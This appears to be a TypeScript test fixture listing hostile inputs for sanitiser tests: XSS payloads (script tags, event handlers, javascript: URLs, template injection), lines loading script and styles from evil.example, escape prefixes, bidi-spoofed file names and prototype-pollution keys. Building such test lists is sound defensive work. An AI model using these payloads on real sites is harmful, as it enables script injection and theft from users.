/** Texts that somebody would choose to get more than text out of a page. */

const RUN = 'window.__pwned=1';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" `,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href=" &#106;avascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>*{background:url(https://evil.example/)}</style>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<div style="position:fixed;inset:0" onclick=${RUN}>`,
  `<b>bold</b>&lt;i&gt;&amp;&#60;script&#62;`,
  `onmouseover=${RUN} x=`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
];

/** Ways out of where a text may stand. */
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  ' ',
  '--><!-- ',
  '<!--><',
  ']]>',
  '</option></select>',
  '</textarea></title></style></script>',
  '</h2></button></dialog>',
  '\u202e',
  '\u0000',
  '\r\n\r\n',
];

const CHARACTERS = [
  ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`),
  ...['\u007f', '\u0085', '\u00ad', '\u200b', '\u200d', '\u200e', '\u200f', '\u2028', '\u2029'],
  ...['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'],
  ...['\ufeff', '\ufff9', '\uffff', '\ud800', '\udc00', '\u{e0041}', '\u{10ffff}'],
  'photo_\u202egpj.exe',
  'invoice\u2066\u2069\u202d.dpf',
  'Z\u0351\u0357'.repeat(60),
];

/** Names that every object, or the page, already has. */
const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'],
  ...['isPrototypeOf', 'undefined', 'null', 'NaN', 'true', 'app', 'picture', 'location', '-1'],
];

const LONG = [
  'x'.repeat(20_000),
  '<b>'.repeat(5000),
  '&amp;'.repeat(5000),
  '\u202e'.repeat(5000),
  `${'"'.repeat(5000)}><img src=x onerror=${RUN}>`,
];

export const hostile: readonly string[] = [
  ...BREAKS.flatMap((out) => MARKUP.map((text) => out + text)),
  ...CHARACTERS,
  ...NAMES,
  ...LONG,
];
